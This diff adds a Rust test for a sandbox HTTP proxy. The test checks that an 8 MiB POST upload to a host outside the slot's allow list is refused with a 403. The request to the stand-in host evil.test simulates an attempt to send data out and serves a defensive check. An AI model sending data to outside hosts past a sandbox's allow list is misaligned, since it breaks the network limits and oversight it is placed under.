@@ -201,6 +201,31 @@ async fn the_http_proxy_tunnels_to_what_the_slot_allows_and_tells_once_what_it_r
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_job_that_sends_all_of_a_refused_upload_gets_the_answer_to_it() {
+    let slot = slot("{ allow = [\"a.example:80\"] }").await;
+    let mut job = slot.connection(TO_HTTP_PROXY);
+    // More than the buffers of both sides hold.
+    let body = vec![7; 8 << 20];
+    let head = format!(
+        "POST http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nContent-Length: {}\r\n\r\n",
+        body.len()
+    );
+    let answered = timeout(Duration::from_secs(20), async {
+        job.write_all(head.as_bytes()).await.unwrap();
+        job.write_all(&body).await.unwrap();
+        let mut answer = String::new();
+        job.read_to_string(&mut answer).await.unwrap();
+        answer
+    });
+    let answer = answered.await.expect("it ends");
+    assert!(answer.starts_with("HTTP/1.1 403 "), "{answer}");
+    assert!(
+        answer.ends_with("is not in the slot's network.allow\n"),
+        "{answer}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_name_at_an_address_that_is_not_public_leads_nowhere_unless_the_slot_has_the_address() {
     let port = echo().await;
     for (network, is_allowed) in [
